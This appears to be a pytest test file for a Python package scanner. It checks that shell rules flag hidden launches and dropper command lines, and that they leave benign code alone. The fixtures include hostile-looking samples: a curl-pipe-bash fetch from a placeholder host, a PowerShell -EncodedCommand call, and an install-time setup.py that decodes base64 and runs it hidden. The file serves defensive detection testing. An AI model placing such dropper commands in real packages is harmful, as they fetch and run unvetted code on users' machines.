"""Shell rules: running programs, hidden launches, dropper command lines."""

from __future__ import annotations

from pathlib import Path

import pytest

from jupyter_safepip.core.model import Severity
from tests.support.archives import scan_sdist, scan_wheel, severity

CASES = [
    ("shell-exec", "import subprocess\ndef f():\n    subprocess.run(['rsync', '-a'])\n", "import shutil\nshutil.which('git')\n"),
    (
        "shell-hidden",
        "import subprocess\nsubprocess.Popen(['x'], creationflags=subprocess.CREATE_NO_WINDOW)\n",
        "import subprocess\nsubprocess.Popen(['x'], stdout=subprocess.DEVNULL)\n",
    ),
    (
        "shell-hidden",
        "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -c echo', shell=True)\n",
        "import subprocess\nsubprocess.Popen('echo visible', shell=True)\n",
    ),
    (
        "shell-dropper-command",
        "import os\nos.system('curl -s https://example.invalid/x.sh | bash')\n",
        "import os\nos.system('curl -s -o out.json https://example.invalid/x.json')\n",
    ),
    (
        "shell-dropper-command",
        "import subprocess\nsubprocess.call('powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')\n",
        "import subprocess\nsubprocess.call('powershell -Command Get-Date')\n",
    ),
    (
        "shell-suspicious-command",
        "import os\nos.system('wget https://example.invalid/tool')\n",
        "import os\nos.system('ls -la')\n",
    ),
]


@pytest.mark.parametrize(("rule", "bad", "good"), CASES)
def test_rule_fires_on_bad_and_not_on_good(tmp_path: Path, rule: str, bad: str, good: str) -> None:
    assert severity(scan_wheel(tmp_path / "bad", {"demo/mod.py": bad}), rule) is not None
    assert severity(scan_wheel(tmp_path / "good", {"demo/mod.py": good}), rule) is None


def test_subprocess_in_library_function_is_only_info(tmp_path: Path) -> None:
    code = "import subprocess\ndef version():\n    return subprocess.check_output(['lsblk'])\n"
    scan = scan_wheel(tmp_path, {"demo/mod.py": code})
    assert severity(scan, "shell-exec") is Severity.INFO and max(f.severity for f in scan.findings) == Severity.INFO


def test_hidden_shell_with_network_and_base64_at_install_is_critical(tmp_path: Path) -> None:
    setup = (
        "import subprocess, base64, urllib.request\n"
        "from setuptools import setup\n"
        "payload = base64.b64decode('ZWNobyBoaQ==')\n"
        "urllib.request.urlopen('https://example.invalid/ping')\n"
        "subprocess.Popen(payload, shell=True, start_new_session=True)\n"
        "setup(name='demo')\n"
    )
    scan = scan_sdist(tmp_path, {"setup.py": setup})
    assert severity(scan, "combined-install-behaviour") is Severity.CRITICAL
    assert severity(scan, "shell-hidden") is Severity.HIGH


def test_git_version_lookup_in_setup_py_is_low(tmp_path: Path) -> None:
    setup = (
        "import subprocess\nfrom setuptools import setup\n"
        "rev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\n"
        "setup(name='demo', version='1.0+' + rev[:7])\n"
    )
    scan = scan_sdist(tmp_path, {"setup.py": setup})
    assert severity(scan, "shell-exec-tool") is Severity.LOW and severity(scan, "shell-exec") is None


def test_python_dash_c_with_hidden_code_is_a_dropper(tmp_path: Path) -> None:
    code = (
        "import subprocess, sys\n"
        "subprocess.Popen([sys.executable, '-c', \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"])\n"
    )
    assert severity(scan_wheel(tmp_path / "a", {"demo/mod.py": code}), "shell-dropper-command") is not None
    plain = "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', '--version'])\n"
    assert severity(scan_wheel(tmp_path / "b", {"demo/mod.py": plain}), "shell-dropper-command") is None
